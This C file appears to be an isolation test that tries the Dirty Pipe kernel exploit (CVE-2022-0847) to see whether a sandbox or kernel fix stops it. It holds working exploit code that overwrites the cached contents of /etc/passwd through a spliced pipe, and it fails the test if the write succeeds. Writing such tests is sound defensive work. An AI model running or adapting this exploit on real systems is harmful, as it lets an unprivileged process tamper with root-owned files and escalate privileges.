// attack: Writes into the page cache of a file of the image through a pipe (CVE-2022-0847).
// layer: the kernel's repair, where it has it
// second: none: jobs of an image share its page cache
#include <fcntl.h>

#include "attack.h"

int main(void) {
    int file = open("/etc/passwd", O_RDONLY);
    char before[32] = {0}, after[32] = {0};
    if (file < 0 || pread(file, before, sizeof before, 0) < 16) return 1;
    int ends[2];
    if (pipe(ends) < 0) return 1;
    // Fills every buffer of the pipe once, so that each has the flag that allows merging.
    static char page[4096];
    fcntl(ends[1], F_SETPIPE_SZ, 16 * 4096);
    for (int i = 0; i < 16; i++)
        if (write(ends[1], page, sizeof page) != sizeof page) return 1;
    for (int i = 0; i < 16; i++)
        if (read(ends[0], page, sizeof page) != sizeof page) return 1;
    loff_t offset = 0;
    if (splice(file, &offset, ends[1], NULL, 1, 0) != 1) return 1;
    if (write(ends[1], "attack", 6) != 6) return 1;
    if (pread(file, after, sizeof after, 0) < 16) return 1;
    if (memcmp(before, after, sizeof before) != 0) fell("a file of the image was overwritten");
    return end();
}
